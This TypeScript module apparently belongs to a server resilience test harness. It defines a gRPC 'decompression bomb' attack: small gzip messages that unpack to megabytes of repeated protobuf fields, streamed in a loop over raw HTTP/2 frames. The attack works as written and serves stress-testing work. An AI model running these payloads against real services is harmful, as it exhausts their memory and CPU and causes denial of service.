import { Buffer } from "node:buffer";
import type { Attack } from "../attack.ts";
import { callHeaders, FLAG, FRAME, frameBytes } from "../../support/http2_wire.ts";
import { grpcConnection, UNARY } from "./http2_connection.ts";
import { packedRepeat } from "./packed.ts";

const MIB = 2 ** 20;

function varint(value: number): number[] {
  const bytes = [];
  for (; value > 127; value = Math.floor(value / 128)) bytes.push(value % 128 + 128);
  return [...bytes, value];
}

/** Head of a length-delimited field. */
const field = (number: number, length: number) => [...varint(number * 8 + 2), ...varint(length)];

/** The head of a message whose content is so long, and the unit that it repeats. */
const SHAPES: readonly ((bytes: number) => readonly [head: number[], unit: number[]])[] = [
  // data.docs.docs: empty documents
  (bytes) => {
    const inner = field(1, bytes);
    return [[...field(4, bytes + inner.length), ...inner], [0x0a, 0]];
  },
  // unknown fields
  () => [[], [0x78, 1]],
  // routes
  () => [[], [0x1a, 0]],
  // unknown fields of a document
  (bytes) => {
    const doc = field(1, bytes);
    const docs = field(1, bytes + doc.length);
    return [[...field(4, bytes + doc.length + docs.length), ...docs, ...doc], [0xf8, 6, 1]];
  },
];

/** Messages of kilobytes that unpack to megabytes of fields. */
export const grpcBombs: Attack = {
  name: "grpc: gzip of many tiny fields",
  protocol: "grpc",
  seconds: { small: 1.5, full: 60 },
  async run(attacker) {
    for (let round = 0; !attacker.signal.aborted; round++) {
      const unpacked = 12 * Math.floor((attacker.full ? 64 : 8) * MIB / 12);
      const [head, unit] = SHAPES[round % SHAPES.length]!(unpacked);
      const none = new Uint8Array(0);
      const packed = await packedRepeat(
        Uint8Array.from(head),
        Uint8Array.from(unit),
        unpacked,
        none,
      );
      const socket = await grpcConnection(attacker);
      const prefix = Buffer.alloc(5);
      prefix[0] = 1;
      prefix.writeUInt32BE(packed.length, 1);
      await socket.write(
        frameBytes(
          FRAME.HEADERS,
          callHeaders(UNARY, { "grpc-encoding": "gzip" }),
          FLAG.END_HEADERS,
          1,
        ),
      );
      const message = Buffer.concat([prefix, packed]);
      for (let at = 0; at < message.length; at += 16_384) {
        const last = at + 16_384 >= message.length;
        const piece = message.subarray(at, at + 16_384);
        await socket.write(frameBytes(FRAME.DATA, piece, last ? FLAG.END_STREAM : 0, 1));
      }
      await socket.until((text) =>
        /grpc-status|RESOURCE|decompress/.test(text) || hasTrailers(text)
      );
      attacker.count("answered");
      socket.close();
    }
  },
};

/** A HEADERS frame that ends a stream is among what came. */
function hasTrailers(text: string): boolean {
  for (let at = 0; at + 9 <= text.length;) {
    const byte = (index: number) => text.charCodeAt(at + index);
    const length = byte(0) * 65_536 + byte(1) * 256 + byte(2);
    if (byte(3) === FRAME.HEADERS && byte(4) & FLAG.END_STREAM) return true;
    if (byte(3) === FRAME.RST_STREAM || byte(3) === FRAME.GOAWAY) return true;
    at += 9 + length;
  }
  return false;
}
